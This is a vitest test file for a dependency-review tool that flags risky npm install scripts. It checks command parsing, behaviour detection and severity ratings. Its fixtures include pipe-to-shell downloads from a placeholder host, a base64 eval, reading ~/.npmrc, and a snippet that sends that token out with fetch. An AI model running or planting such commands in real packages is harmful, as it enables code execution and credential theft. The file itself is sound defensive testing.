import { expect, test } from 'vitest'

import {
  kindOfCommand,
  scanCode,
  scanCommand,
  stepsOf,
} from '../../../examples/dependency-review/examine/script-patterns.ts'
import { lockfileOf, ProjectFolder, soundPackage, type Content } from './project-folder.ts'
import { reviewQuietly } from './review-quietly.ts'

test.each([
  ['node install.js', ['install.js']],
  ['node ./scripts/post install', ['./scripts/post']],
  ['node -r ./hook.js --no-warnings build.js', ['build.js']],
  ['node -e "require(\'./x\')"', [null]],
  ['FOO=1 cross-env BAR=2 node a.js && sh ./b.sh || true', ['a.js', './b.sh', null]],
  ['./install.sh', ['./install.sh']],
  ['node "with space.js"', ['with space.js']],
  ['node-gyp rebuild', [null]],
  ['node -e "a; b | c && d" && node e.js', [null, 'e.js']],
  ['', []],
])('%j runs %j', (command, files) => {
  expect(stepsOf(command).map(({ file }) => file)).toEqual(files)
})

test.each([
  ['echo done', 'nothing'],
  ['exit 0', 'nothing'],
  ['node-gyp-build || node-gyp rebuild', 'builder'],
  ['prebuild-install || exit 0', 'builder'],
  ['node x.js', 'program'],
  ['node-gyp rebuild && node x.js', 'program'],
] as const)('%j is: %s', (command, kind) => {
  expect(kindOfCommand(stepsOf(command))).toBe(kind)
})

test.each([
  ['curl https://x.example/a | sh', ['network', 'eval']],
  ['wget -qO- x.example|bash', ['network', 'eval']],
  ["node -e \"eval(Buffer.from('YQ==', 'base64').toString())\"", ['eval', 'decode']],
  ['cat ~/.npmrc', ['credentials']],
  ['echo "see https://x.example"', []],
  ['node-gyp rebuild', []],
  ['prebuild-install -r napi || node-gyp rebuild', []],
])('%j shows %j', (command, behaviours) => {
  expect([...scanCommand(command)].sort()).toEqual([...behaviours].sort())
})

test.each([
  ["const https = require('https')", ['network']],
  ["import { request } from 'node:http'", ['network']],
  ["const { fetch } = await import('undici')", ['network']],
  ["await fetch('https://x.example')", ['network']],
  ["require('child_process').execSync('ls')", ['child-process']],
  ['new Function(code)()', ['eval']],
  ["Buffer.from(blob, 'base64')", ['decode']],
  ["fs.readFileSync(home + '/.npmrc')", ['credentials']],
  ['send(JSON.stringify(process.env))', ['environment']],
  ['var _0x3fa1b2 = 1', ['obfuscation']],
  ["createHash('sha512').digest('hex')", []],
  ["// require('https')", []],
  [" * eval('x')", []],
  ['String.fromCharCode(...buffer.subarray(i, i + n))', []],
  ['String.fromCharCode(104,101,108,108,111,44)', ['decode']],
  ['spawn(bin, { env: { ...process.env, X: 1 } })', []],
  ['const evaluate = retrieval(x)', []],
  ['const prefetch = 1', []],
])('%j shows %j', (code, behaviours) => {
  expect(scanCode(code, 'javascript').map(({ behaviour }) => behaviour)).toEqual(behaviours)
})

test('given a file packed into one line of 300,000 characters, when scanned, then what stands at its end is seen', () => {
  const hits = scanCode(`${'a=1;'.repeat(75_000)}eval(x)`, 'javascript')
  expect(hits.map(({ behaviour }) => behaviour).sort()).toEqual(['eval', 'obfuscation'])
})

/** Findings about install scripts of one package `p`. */
async function scriptFindings(
  manifest: object,
  files: Readonly<Record<string, Content>> = {},
  locked: object = { hasInstallScript: true },
) {
  await using folder = await ProjectFolder.make({
    'package.json': { name: 'demo', license: 'MIT', dependencies: { p: '1' } },
    'package-lock.json': lockfileOf({ 'node_modules/p': locked }),
    ...soundPackage('node_modules/p', manifest),
    ...Object.fromEntries(Object.entries(files).map(([name, content]) => [`node_modules/p/${name}`, content])),
  })
  const report = await reviewQuietly(folder.root)
  return {
    findings: report.findings.filter(({ rule }) => rule.startsWith('install-script.')),
    unexamined: report.unexamined,
    row: report.packages[0],
  }
}

test.each<[string, object, Readonly<Record<string, Content>>, readonly string[]]>([
  ['no script', {}, {}, []],
  ['a script of another kind', { scripts: { test: 'curl x | sh', prepare: 'curl x | sh' } }, {}, []],
  ['a script that does nothing', { scripts: { postinstall: 'echo thanks' } }, {}, ['info install-script.postinstall']],
  ['a native build', { scripts: { install: 'node-gyp rebuild' } }, {}, ['low install-script.install']],
  ['a native build that is implied', {}, { 'binding.gyp': '{}' }, ['low install-script.install']],
  ['a native build that is refused', { gypfile: false }, { 'binding.gyp': '{}' }, []],
  [
    'a quiet program',
    { scripts: { postinstall: 'node x.js' } },
    { 'x.js': 'console.log(1)' },
    ['medium install-script.postinstall'],
  ],
  ['a program that is not there', { scripts: { postinstall: 'node x.js' } }, {}, ['medium install-script.postinstall']],
  [
    'a download',
    { scripts: { postinstall: 'node x' } },
    { 'x.js': "require('https').get(u)" },
    ['medium install-script.postinstall'],
  ],
  [
    'a download that is run',
    { scripts: { postinstall: 'node x.js' } },
    { 'x.js': "require('https').get(u)\nrequire('child_process').execSync(f)" },
    ['high install-script.postinstall'],
  ],
  [
    'a pipe into a shell',
    { scripts: { preinstall: 'curl https://x.example | sh' } },
    {},
    ['critical install-script.preinstall'],
  ],
  [
    'hidden code',
    { scripts: { install: 'node x.js' } },
    { 'x.js': "eval(Buffer.from(s, 'base64').toString())" },
    ['critical install-script.install'],
  ],
  [
    'secrets sent away',
    { scripts: { install: 'node x.js' } },
    { 'x.js': "const k = read('.npmrc')\nfetch(u + k)" },
    ['critical install-script.install'],
  ],
  ['a file outside', { scripts: { install: 'node ../other/x.js' } }, {}, ['high install-script.install']],
  [
    'a shell script',
    { scripts: { install: 'sh x.sh' } },
    { 'x.sh': 'wget -O- x.example | bash' },
    ['high install-script.install'],
  ],
  ['a script that is no text', { scripts: { install: { run: 'x' } } }, {}, []],
  ['scripts that are a list', { scripts: ['install'] }, {}, []],
])('given %s, when examined, then it finds %#', async (_, manifest, files, expected) => {
  const { findings } = await scriptFindings(manifest, files)
  expect(findings.map(({ severity, rule }) => `${severity} ${rule}`)).toEqual(expected)
})

test('given code two files away, when examined, then it is found with its file and line', async () => {
  const { findings } = await scriptFindings(
    { scripts: { postinstall: 'node lib/start' } },
    {
      'lib/start.js': "\nrequire('./next')\n",
      'lib/next/index.js':
        "module.exports = 1\n\n\nrequire('child_process')\nrequire('./start-over')\nrequire('../start')",
    },
  )
  expect(findings[0]?.evidence).toEqual([
    { file: 'node_modules/p/package.json', line: 8 },
    { file: 'node_modules/p/lib/next/index.js', line: 4 },
  ])
  expect(findings[0]?.detail).toContain('child-process in `p/lib/next/index.js` line 4')
})

test('given a script that loads another package, when examined, then it says that it did not follow', async () => {
  const { findings } = await scriptFindings(
    { scripts: { install: 'node x.js' } },
    { 'x.js': "require('helper')()\nrequire('fs')" },
  )
  expect(findings[0]?.detail).toContain('hands over to `helper`, not followed here')
})

test('given a script behind a link that leads outside, when examined, then it is not read, and that is said', async () => {
  const { unexamined } = await scriptFindings(
    { scripts: { install: 'node x.js' } },
    { 'x.js': { link: '../../../../../etc/hosts' } },
  )
  expect(unexamined.map(({ aspect, reason }) => `${aspect}: ${reason}`)).toEqual([
    'install scripts: `x.js` leads outside of the project',
  ])
})

test('given a script of a thousand files, when examined, then it stops at its bound and says so', async () => {
  const files = Object.fromEntries(
    Array.from({ length: 40 }, (_, index) => [`f${index}.js`, `require('./f${index + 1}')`]),
  )
  const { unexamined } = await scriptFindings({ scripts: { install: 'node f0.js' } }, files)
  expect(unexamined.map(({ reason }) => reason)).toEqual([
    'its install script loads more than 16 files; the rest was not read',
  ])
})

test('given a lockfile that denies the script, when examined, then that is a finding with both places', async () => {
  const { findings } = await scriptFindings({ scripts: { install: 'node-gyp rebuild' } }, {}, {})
  expect(findings.map(({ severity, rule }) => `${severity} ${rule}`)).toEqual([
    'medium install-script.not-promised',
    'low install-script.install',
  ])
  expect(findings[0]?.evidence.map(({ file }) => file)).toEqual(['package-lock.json', 'node_modules/p/package.json'])
})

test('given a git dependency, when it has a prepare script, then that runs at installation too', async () => {
  const { row } = await scriptFindings(
    { scripts: { prepare: 'node build.js' } },
    {},
    { resolved: 'git+https://x.example/p.git#0123456789012345678901234567890123456789' },
  )
  expect(row?.facts.installScripts).toEqual(['prepare'])
})
